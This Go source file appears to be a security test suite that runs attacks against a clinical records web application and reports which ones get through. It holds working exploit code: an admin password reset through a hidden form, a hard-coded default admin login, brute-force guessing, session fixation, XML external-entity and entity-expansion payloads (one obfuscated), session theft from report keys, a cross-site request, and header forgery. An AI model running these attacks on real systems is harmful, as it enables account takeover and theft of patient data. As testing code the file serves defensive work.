package attack

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
)

// guesses is how many wrong passwords an attacker tries before the right one.
const guesses = 25

// openForm gives the administrator another password from a form that is not in
// the user's menu, and signs in with it.
func openForm(ctx context.Context, t *Target) (Result, error) {
	c, err := t.signedIn(ctx)
	if err != nil {
		return Result{}, err
	}
	a, err := c.Events(ctx, `<openform form="103105"/>`)
	if err != nil || a.Caption() != "Application Users" {
		return Result{}, err
	}
	if _, err = c.Select(ctx, a, "imsadmin"); err == nil {
		_, err = c.Press(ctx, "Edit", "")
	}
	if err == nil {
		_, err = c.Press(ctx, "Save", `<textbox id="a1030">forged</textbox>`)
	}
	if errors.Is(err, errAnswer) { // the screen came without what it takes
		return Result{}, nil
	}
	if err != nil {
		return Result{}, err
	}
	return signInAs(ctx, t, "imsadmin", "forged")
}

// signInAs is whether somebody can sign in; a refusal is an answer too.
func signInAs(ctx context.Context, t *Target, user, password string) (Result, error) {
	_, err := t.client().Login(ctx, user, password, "")
	if errors.Is(err, errSignIn) || errors.Is(err, errAnswer) {
		return Result{}, nil
	}
	if err != nil {
		return Result{}, err
	}
	return Result{Through: true, Evidence: "signed in as " + user}, nil
}

func passwordInPage(ctx context.Context, t *Target) (Result, error) {
	c, err := t.signedIn(ctx)
	if err != nil {
		return Result{}, err
	}
	a, err := c.Events(ctx, `<openform form="103138"/>`)
	return attempt(a, err, func(a Answer) bool { return a.Root.First("passwordDialog").Attr("password") != "" }, "the password in the answer")
}

func systemForm(ctx context.Context, t *Target) (Result, error) {
	c, err := t.signedIn(ctx)
	if err != nil {
		return Result{}, err
	}
	if _, err := c.Events(ctx, `<openform form="103138"/>`); err != nil {
		return Result{}, err
	}
	a, err := c.Events(ctx, `<passwordDialog canceled="false"/>`)
	return attempt(a, err, func(a Answer) bool { return a.Caption() == "Cache Configuration" }, "the system form")
}

// clearPassword is through when the page wants the password as it is, over a
// connection that anybody can read.
func clearPassword(ctx context.Context, t *Target) (Result, error) {
	u, err := url.Parse(t.Base)
	if err != nil {
		return Result{}, fmt.Errorf("read address: %w", err)
	}
	c := t.client()
	a, err := c.Events(ctx, `<queryString/>`)
	if err != nil || u.Scheme != "http" || strings.Contains(a.Body, "salt=") {
		return Result{}, err
	}
	return signInAs(ctx, t, t.User, t.Password)
}

func defaultAccount(ctx context.Context, t *Target) (Result, error) {
	return signInAs(ctx, t, "imsadmin", "icws")
}

func guess(ctx context.Context, t *Target) (Result, error) {
	return guessing(ctx, t, guesses+1)
}

func guessFreshCookie(ctx context.Context, t *Target) (Result, error) {
	return guessing(ctx, t, 2)
}

// guessing tries wrong passwords, so many for each session, and then the right one.
func guessing(ctx context.Context, t *Target, each int) (Result, error) {
	var c *Client
	for i := range guesses + 1 {
		if i%each == 0 {
			c = t.client()
			if _, err := c.Events(ctx, `<queryString/>`); err != nil {
				return Result{}, err
			}
		}
		pass := fmt.Sprintf("wrong%d", i)
		if i == guesses {
			pass = t.Password
		}
		a, err := c.Events(ctx, fmt.Sprintf(`<loginEvent id="a1001" name="%s" pass="%s"/>`, attr(t.User), attr(pass)))
		if err != nil {
			return Result{}, err
		}
		if strings.Contains(a.Title(), t.User) {
			return Result{true, fmt.Sprintf("signed in at attempt %d", i+1)}, nil
		}
	}
	return Result{}, nil
}

func sessionFixation(ctx context.Context, t *Target) (Result, error) {
	attacker := t.client()
	if _, err := attacker.Events(ctx, `<queryString/>`); err != nil {
		return Result{}, err
	}
	planted := attacker.Session()
	if planted == "" {
		return Result{}, nil
	}
	victim := t.browser(t.Victim)
	if err := victim.Plant(planted); err != nil {
		return Result{}, err
	}
	if _, err := victim.Login(ctx, t.Victim, t.Password, ""); err != nil {
		return Result{}, err
	}
	a, err := attacker.Events(ctx, `<topbutton id="-1"/>`)
	return attempt(a, err, func(a Answer) bool { return strings.Contains(a.Title(), t.Victim) }, "the victim's screen")
}

// typed puts a body's entity into a field and reads it back from the screen.
func typed(ctx context.Context, t *Target, doctype string, through func(string) bool, evidence string) (Result, error) {
	c, err := t.signedIn(ctx)
	if err != nil {
		return Result{}, err
	}
	a, err := c.Raw(ctx, doctype+`<events><textbox id="a1015">&x;</textbox></events>`)
	return attempt(a, err, func(a Answer) bool {
		for _, box := range a.Root.First("data").All("textbox") {
			if box.Attr("id") == "a1015" && through(box.Attr("value")) {
				return true
			}
		}
		return false
	}, evidence)
}

func externalEntity(ctx context.Context, t *Target) (Result, error) {
	return typed(ctx, t, `<!DOCTYPE e [<!ENTITY x SYSTEM "`+t.File+`">]>`, func(v string) bool { return strings.Contains(v, t.Content) }, "the file's content")
}

func hiddenDoctype(ctx context.Context, t *Target) (Result, error) {
	return typed(ctx, t, "<!DOC\x01TYPE e [<!ENT\x02ITY x SYSTEM \""+t.File+"\">]>", func(v string) bool { return strings.Contains(v, t.Content) }, "the file's content")
}

func entityExpansion(ctx context.Context, t *Target) (Result, error) {
	doctype := `<!DOCTYPE e [<!ENTITY a "0123456789">`
	for _, pair := range []string{"ba", "cb", "dc", "xd"} {
		doctype += `<!ENTITY ` + pair[:1] + ` "` + strings.Repeat("&"+pair[1:]+";", 10) + `">`
	}
	return typed(ctx, t, doctype+"]>", func(v string) bool { return len(v) >= 100_000 }, "a hundred thousand characters")
}

// reportOf is a report about a patient that the victim printed.
func reportOf(ctx context.Context, t *Target) (string, error) {
	victim := t.browser(t.Victim)
	if _, err := victim.Login(ctx, t.Victim, t.Password, ""); err != nil {
		return "", err
	}
	if _, err := victim.OpenPatient(ctx, t.Patient); err != nil {
		return "", err
	}
	return victim.Print(ctx, "Patient Summary")
}

func reportTheft(ctx context.Context, t *Target) (Result, error) {
	path, err := reportOf(ctx, t)
	if err != nil {
		return Result{}, err
	}
	a, err := t.client().Get(ctx, path)
	return attempt(a, err, isPDF, "the report")
}

// reportSession takes the session out of the key of a report: what follows
// thirteen digits of time.
func reportSession(ctx context.Context, t *Target) (Result, error) {
	path, err := reportOf(ctx, t)
	if err != nil {
		return Result{}, err
	}
	u, err := url.Parse(path)
	if err != nil {
		return Result{}, fmt.Errorf("read address: %w", err)
	}
	key := u.Query().Get("id")
	if len(key) != 13+32+8 {
		return Result{}, nil
	}
	return takeOver(ctx, t, key[13:45])
}

func passwordInLog(ctx context.Context, t *Target) (Result, error) {
	const secret = "Secret-That-Was-Typed"
	_, err := t.client().Raw(ctx, `<events><loginEvent id="a1001" name="`+attr(t.User)+`" pass="`+secret+`"></events>`)
	if err != nil {
		return Result{}, err
	}
	return Result{strings.Contains(t.ServerLog(), secret), "the password in the log"}, nil
}

// crossSite sends what a page of another site can make a browser send.
func crossSite(ctx context.Context, t *Target) (Result, error) {
	c, err := t.signedIn(ctx)
	if err != nil {
		return Result{}, err
	}
	c.Header = http.Header{"Origin": {"https://attacker.example"}, "Sec-Fetch-Site": {"cross-site"}, "Sec-Fetch-Mode": {"no-cors"}}
	a, err := c.Send(ctx, http.MethodPost, "/CNHost", "text/plain", []byte(`<events><topbutton id="-2"/></events>`))
	return attempt(a, err, func(a Answer) bool { return a.Caption() == "Patient Search" }, "the screen moved on")
}

func noHeaders(ctx context.Context, t *Target) (Result, error) {
	a, err := t.client().Get(ctx, "/ideagz.html")
	return attempt(a, err, func(a Answer) bool {
		return a.Status == http.StatusOK && a.Header.Get("X-Frame-Options") == "" && a.Header.Get("Content-Security-Policy") == ""
	}, "the page may be framed")
}

func exceptionText(ctx context.Context, t *Target) (Result, error) {
	c, err := t.signedIn(ctx)
	if err != nil {
		return Result{}, err
	}
	a, err := c.Events(ctx, `<button id="anumber"/>`)
	return attempt(a, err, has("at ims.framework.cn."), "a Java stack trace")
}

// workstation forges where a sign-in comes from.
func workstation(ctx context.Context, t *Target) (Result, error) {
	const forged = "10.99.99.99"
	c := t.client()
	c.Header = http.Header{"Proxy-Ip": {forged}}
	if _, err := c.Login(ctx, t.User, t.Password, ""); err != nil {
		return Result{}, err
	}
	return Result{slices.Contains(t.Workstations(), forged), "the forged address in the audit"}, nil
}
